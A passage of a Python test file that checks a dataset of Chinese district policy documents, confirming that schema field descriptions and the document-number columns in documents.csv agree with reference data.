    schema = json.loads(downloads[f"{V1}/schemas/measures.tableschema.json"])
    described = {f["name"]: f["description"] for f in schema["fields"]}
    for name in ("text", "title", "lead_units", "support_units", "joint_units"):
        assert "`…`" in described[name] and "页码" in described[name], name
    units = json.loads(downloads[f"{V1}/schemas/units.tableschema.json"])
    assert "`…`" in next(f["description"] for f in units["fields"] if f["name"] == "unit_printed")


def test_a_document_number_and_whether_it_is_printed_agree(downloads, truth):
    rows = {r["document"]: r for r in read_csv(downloads[f"{V1}/documents.csv"])}
    for doc_id, doc in truth.docs.items():
        number = null(doc.get("doc_number"))
        number = printed(number) if number is not None else None
        r = rows[doc_id]
        assert r["doc_number"] == (number or "")
        expected = "" if number is None else ("false" if doc.get("doc_number_printed") == "false" else "true")
        assert r["doc_number_printed"] == expected, doc_id
    assert rows["jiangjin-2022-manufacturing"]["doc_number_printed"] == ""
    qianjiang = [r for r in rows.values() if r["district"] == "qianjiang"]
    assert any(r["doc_number"] and r["doc_number_printed"] == "false" for r in qianjiang)
    schema = json.loads(downloads[f"{V1}/schemas/documents.tableschema.json"])
    described = {f["name"]: f["description"] for f in schema["fields"]}
    assert "原文之外" in described["doc_number"] and "doc_number_printed" in described["doc_number"]
    assert "没有文号时为空" in described["doc_number_printed"]
